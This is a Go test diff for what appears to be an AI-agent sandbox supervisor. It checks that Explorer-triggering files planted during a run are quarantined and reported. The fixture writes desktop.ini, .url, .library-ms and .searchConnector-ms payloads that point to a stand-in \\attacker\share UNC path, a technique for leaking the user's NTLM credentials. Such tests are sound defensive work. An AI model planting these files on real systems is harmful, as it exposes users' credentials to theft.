@@ -240,3 +240,57 @@ func TestWindowsAfterRunMovesOutsideLink(t *testing.T) {
 		t.Errorf("the junction's target was touched: %v", err)
 	}
 }
+
+// TestWindowsAfterRunMovesExplorerFiles: a desktop.ini, .url, .lnk,
+// .library-ms or .searchConnector-ms the box made or changed anywhere in
+// a writable root is moved away after the run and named (Explorer would
+// follow it to \\server\share with the user's NTLM credentials); the
+// user's own unchanged ones stay. Before, every one of them stayed.
+func TestWindowsAfterRunMovesExplorerFiles(t *testing.T) {
+	base, err := os.MkdirTemp("", "agentbox-test-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	proj := filepath.Join(base, "proj")
+	const leak = "[.ShellClassInfo]\r\nIconResource=\\\\attacker\\share\\x.ico,0\r\n"
+	write(t, filepath.Join(proj, "docs", "desktop.ini"), "[.ShellClassInfo]\r\n")
+	write(t, filepath.Join(proj, "readme.url"), "[InternetShortcut]\r\nURL=https://example.com\r\n")
+	write(t, filepath.Join(proj, "mine.lnk"), "L")
+	p := &plan.Plan{RunID: "RUN", HostExec: plan.HostExec{Roots: []string{proj}, State: filepath.Join(base, "state")}}
+	planted := []string{`a\b\c\desktop.ini`, `Docs.Library-MS`, `src\q.searchConnector-ms`, `src\x.LNK`, `readme.url`}
+	box := attacker{run: func() {
+		write(t, filepath.Join(proj, `a\b\c\desktop.ini`), leak)
+		write(t, filepath.Join(proj, "Docs.Library-MS"), `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\attacker\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`)
+		write(t, filepath.Join(proj, `src\q.searchConnector-ms`), `<searchConnectorDescription><simpleLocation><url>\\attacker\share</url></simpleLocation></searchConnectorDescription>`)
+		write(t, filepath.Join(proj, `src\x.LNK`), "L")
+		write(t, filepath.Join(proj, "readme.url"), "[InternetShortcut]\r\nURL=file://attacker/share\r\nIconFile=\\\\attacker\\share\\i.ico\r\n")
+	}}
+	var ev events
+	if _, err := supervise.Run(box, p, backend.Context{Events: &ev}); err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	for _, gone := range planted {
+		if _, err := os.Lstat(filepath.Join(proj, gone)); err == nil {
+			t.Errorf("%s is still there after the run", gone)
+		}
+	}
+	for _, kept := range []string{`docs\desktop.ini`, `mine.lnk`} {
+		if _, err := os.Lstat(filepath.Join(proj, kept)); err != nil {
+			t.Errorf("the user's own unchanged %s was moved: %v", kept, err)
+		}
+	}
+	named := map[string]bool{}
+	for _, e := range ev.all {
+		if e.Kind == event.Quarantine && e.Action == "moved" {
+			rel, _ := filepath.Rel(proj, e.Path)
+			named[strings.ToLower(rel)] = true
+			t.Logf("%s %s: %s", e.Action, e.Path, e.Detail)
+		}
+	}
+	for _, gone := range planted {
+		if !named[strings.ToLower(gone)] {
+			t.Errorf("no quarantine event names %s", gone)
+		}
+	}
+}
